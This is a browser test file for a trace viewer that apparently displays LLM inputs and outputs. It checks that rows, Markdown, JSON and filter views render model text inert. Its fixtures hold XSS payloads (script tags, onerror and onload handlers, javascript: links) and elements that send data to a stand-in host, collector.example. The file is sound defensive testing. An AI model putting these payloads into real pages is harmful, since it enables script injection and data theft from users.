import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { recordSpan } from "../furnish/record-span.ts";
import { hasChromium } from "../visitor/chromium.ts";
import { startVisitor, type Visitor } from "../visitor/visitor.ts";

const HOSTILE = [
  "# A heading",
  '<img src=x onerror="window.hacked=1">',
  "<script>window.hacked=2</script>",
  "[a gift](javascript:window.hacked=3)",
  "![pixel](https://collector.example/p.png?q=SECRET)",
  '<a href="javascript:window.hacked=4">click</a>',
  '<svg onload="window.hacked=5"></svg>',
  '<iframe src="https://collector.example/frame"></iframe>',
  '<form action="https://collector.example"><input name="password"></form>',
  '<p style="position:fixed;inset:0">over everything</p>',
].join("\n\n");

type Page = Awaited<ReturnType<Visitor["open"]>>;

describe.runIf(hasChromium)("what a model says is shown and never obeyed", () => {
  let visitor: Visitor;
  let traceId: string;
  beforeAll(async () => {
    visitor = await startVisitor();
    traceId = await recordSpan(visitor.treadle, {
      name: HOSTILE.slice(0, 290),
      requestModel: "<b>model</b>",
      userId: '"><img src=x onerror="window.hacked=6">',
      tags: ["<script>window.hacked=7</script>"],
      metadata: { "<img src=x onerror=window.hacked=8>": "<img src=x onerror=window.hacked=9>" },
      input: [
        {
          role: "user",
          parts: [
            { type: "text", content: HOSTILE },
            { type: "uri", uri: "https://collector.example/image.png", modality: "image" },
          ],
        },
      ],
      output: [
        {
          role: "assistant",
          parts: [
            { type: "text", content: HOSTILE },
            { type: "tool_call", id: "1", name: HOSTILE, arguments: { a: HOSTILE } },
          ],
        },
      ],
    });
  });
  afterAll(() => visitor?.close());

  /** Opens a page and records every request to another machine. */
  async function watched(path: string) {
    const page = await visitor.open({ path });
    const elsewhere: string[] = [];
    page.on("request", (request) => {
      if (!request.url().startsWith(visitor.treadle.url)) elsewhere.push(request.url());
    });
    return { page, elsewhere };
  }

  async function expectInert(page: Page, elsewhere: readonly string[]) {
    expect(await page.evaluate("window.hacked")).toBeUndefined();
    expect(elsewhere).toEqual([]);
    const main = page.locator("main");
    expect(await main.locator("img, iframe, script, form[action], object, embed").count()).toBe(0);
    expect(await page.locator('[href^="javascript:" i], [onerror], [onload]').count()).toBe(0);
  }

  test.each(["/traces", "/traces?view=spans"])("in the rows of %s", async (path) => {
    const { page, elsewhere } = await watched(
      `${path}${path.includes("?") ? "&" : "?"}project=${visitor.projects.own}`,
    );
    await page.getByRole("row").filter({ hasText: "A heading" }).waitFor();
    await expectInert(page, elsewhere);
  });

  test("in a trace: as plain text, as Markdown, in its details and as JSON", async () => {
    const { page, elsewhere } = await watched(`/traces/${traceId}?project=${visitor.projects.own}`);
    await page.getByText("[a gift](javascript:window.hacked=3)").first().waitFor();
    await expectInert(page, elsewhere);
    const plain = page.getByRole("button", { name: "Show as Markdown" });
    // The span's name contains the same text, and appears before its messages.
    await plain.first().waitFor();
    while ((await plain.count()) > 0) await plain.first().click();
    await page.locator(".markdown h1").first().waitFor();
    expect(await page.locator(".markdown [style], .markdown input").count()).toBe(0);
    await page.getByText("a gift").first().click();
    await expectInert(page, elsewhere);
    for (const tab of ["Details", "JSON"]) {
      await page.getByRole("tab", { name: tab }).click();
      await page.getByText("<img src=x onerror").first().waitFor();
      await expectInert(page, elsewhere);
    }
  });

  test("in the filters it is completed from", async () => {
    const { page, elsewhere } = await watched(`/traces?project=${visitor.projects.own}`);
    await page.getByRole("combobox", { name: "Search and filter" }).click();
    await page.getByRole("option", { name: /^user:/ }).click();
    await page.getByRole("option", { name: "onerror" }).click();
    await expectInert(page, elsewhere);
  });

  test("and the content security policy had nothing to stop", () => {
    expect(visitor.troubles).toEqual([]);
  });
});
